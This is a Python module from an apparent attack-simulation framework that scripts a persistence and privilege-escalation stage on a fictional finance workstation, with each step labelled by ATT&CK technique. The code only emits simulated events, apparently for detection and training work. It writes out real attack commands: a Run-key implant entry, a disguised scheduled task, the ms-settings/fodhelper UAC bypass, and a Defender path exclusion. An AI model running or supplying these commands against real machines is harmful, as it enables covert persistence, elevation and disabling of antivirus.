"""Staying: a Run key, a scheduled task, and a way round the consent prompt."""

from __future__ import annotations

from bartizan.simulate.contract import Attack, Deed, Stage

__all__ = ["STAGE"]

_HOST, _USER = "finance-02", "CORP\\finance02"
_RUN_KEY = Deed(
    id="run-key",
    what="The implant enters itself in the user's Run key.",
    techniques=("T1547.001",),
    tactic="persistence",
    host=_HOST,
    principal=_USER,
)
_TASK = Deed(
    id="task",
    what="A scheduled task starts the implant every morning.",
    techniques=("T1053.005",),
    tactic="persistence",
    host=_HOST,
    principal=_USER,
)
_BYPASS = Deed(
    id="consent-bypass",
    what="A per-user handler for a trusted program's settings link is changed so that it starts the implant elevated.",
    techniques=("T1548.002",),
    tactic="privilege-escalation",
    host=_HOST,
    principal=_USER,
)
_BLIND = Deed(
    id="blind-defender",
    what="The implant's folder is excluded from the virus scan.",
    techniques=("T1562.001",),
    tactic="defense-evasion",
    host=_HOST,
    principal=_USER,
)


def _act(attack: Attack) -> None:
    company = attack.company
    desk, implant = company.desks[_HOST], attack.processes["implant"]
    host, sid = desk.host, desk.user.sid
    moment = company.clock.at("09:58:03")
    with attack.doing(moment, _RUN_KEY):
        host.set_value(moment, implant, f"HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SyncHost", implant.image)
    moment = company.clock.at("10:06:41")
    with attack.doing(moment, _TASK):
        maker = host.run(
            moment, "schtasks", f'schtasks /create /tn "Microsoft\\Office\\Sync Host" /tr "{implant.image}" /sc daily /st 08:45 /f', implant
        )
        host.schedule(moment + 0.4, maker, "\\Microsoft\\Office\\Sync Host", implant.image)
    moment = company.clock.at("10:21:12")
    elevated = host.session(moment, desk.user, 2, elevated=True)
    with attack.doing(moment, _BYPASS):
        key = f"HKU\\{sid}_Classes\\ms-settings\\shell\\open\\command"
        host.create_key(moment, implant, key)
        host.set_value(moment + 0.2, implant, f"{key}\\(Default)", implant.image)
        host.set_value(moment + 0.3, implant, f"{key}\\DelegateExecute", "(Empty)")
        helper = host.start(moment + 1.5, "fodhelper", '"C:\\Windows\\System32\\fodhelper.exe"', implant, elevated)
        attack.processes["elevated"] = host.start(
            moment + 2.1, "cmd", f'"C:\\Windows\\System32\\cmd.exe" /c start "" "{implant.image}"', helper
        )
    moment = company.clock.at("10:24:50")
    with attack.doing(moment, _BLIND):
        shell = host.run(
            moment,
            "powershell",
            f"powershell -c Add-MpPreference -ExclusionPath '{implant.image.rpartition(chr(92))[0]}'",
            attack.processes["elevated"],
        )
        host.script(moment + 0.8, shell, f"Add-MpPreference -ExclusionPath '{implant.image.rpartition(chr(92))[0]}'")
        defender = host.running("msmpeng")
        host.set_value(
            moment + 1.2,
            defender,
            f"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\{implant.image.rpartition(chr(92))[0]}",
            "DWORD (0x00000000)",
        )


STAGE = Stage(order=20, title="Staying and getting elevated", act=_act)
